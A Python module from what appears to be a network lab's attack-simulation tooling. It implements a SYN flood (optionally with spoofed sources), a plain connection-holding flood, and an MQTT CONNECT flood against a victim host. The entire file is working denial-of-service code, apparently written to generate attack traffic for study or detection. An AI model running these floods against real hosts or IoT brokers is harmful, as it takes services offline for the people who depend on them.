"""Floods of half connections, of connections, and of MQTT CONNECTs."""

import contextlib
import socket
from collections import deque
from collections.abc import Callable

from tools.lab.attacks.scene import Scene
from tools.lab.devices.mqtt import connect_packet
from tools.lab.frames import SYN, TCP, tcp

#: Connections that a flood holds at a time.
_HELD = 150


def syn_flood(scene: Scene) -> None:
    """Send SYNs to one port, from the attacker's address or from unused ones of the network."""
    used = {host.address for host in scene.ward.hosts}
    unused = [name for number in range(1, 255) if (name := f"{scene.ward.network}.{number}") not in used]
    for _ in scene.turns():
        source = scene.random.choice(unused) if scene.settings["spoofs"] else scene.attacker.address
        ports = (scene.random.randrange(1024, 65_536), scene.settings["port"])
        segment = tcp(source, scene.victim.address, ports, SYN, scene.random.getrandbits(32))
        scene.send(scene.victim, TCP, segment, source)


def connection_flood(scene: Scene) -> None:
    """Open connections and say nothing in them."""
    _flood(scene, lambda: b"")


def mqtt_connection_flood(scene: Scene) -> None:
    """Open connections and send a CONNECT in each."""
    _flood(scene, lambda: connect_packet(f"{scene.random.getrandbits(48):x}"))


def _flood(scene: Scene, greeting: Callable[[], bytes]) -> None:
    held: deque[socket.socket] = deque()
    try:
        for _ in scene.turns():
            with contextlib.suppress(OSError):
                connection = socket.create_connection((scene.victim.address, scene.settings["port"]), 0.5)
                held.append(connection)
                connection.sendall(greeting())
            if len(held) > _HELD:
                held.popleft().close()
    finally:
        for connection in held:
            connection.close()
